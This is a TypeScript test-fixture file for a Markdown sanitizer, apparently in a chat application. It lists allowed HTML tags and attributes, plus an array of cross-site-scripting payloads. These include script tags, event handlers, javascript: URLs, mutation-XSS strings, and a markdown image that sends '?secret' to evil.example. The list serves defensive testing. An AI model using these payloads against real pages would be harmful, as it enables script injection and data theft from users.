/** All tags and attributes that the page writes for Markdown. */
export const ALLOWED_TAGS = new Set(
  'p,br,strong,em,del,code,pre,div,span,button,a,ul,ol,li,input,h3,h4,h5,h6,blockquote,hr,table,thead,tbody,tr,th,td'.split(
    ',',
  ),
)
export const ALLOWED_ATTRIBUTES = new Set(
  'href,title,target,rel,class,type,start,checked,disabled,align,tabindex,role,aria-label,data-copy,data-depth,data-language,data-math,dir,colspan'.split(
    ',',
  ),
)

/** Texts that try to put HTML of their own on the page. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> text',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](/trpc/conversations.remove)',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "t\\" onmouseover=alert(1) x=\\"")',
  '![x](https://evil.example/pixel.png?secret)',
  '![x"onerror="alert(1)](https://a.example/x.png)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js"onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '<script><img src=x onerror=alert(1)//',
  'a <pre> b <img src=x onerror=alert(1) // ',
  '# <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=x>y</b> |',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '<!-- --><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<style>@import "//evil.example"</style>',
  '<math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '**<b onmouseover=alert(1)>**',
  '$\\href{javascript:alert(1)}{x}$',
  '$<img src=x onerror=alert(1)>$',
  '\\<script\\>alert(1)\\</script\\>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]
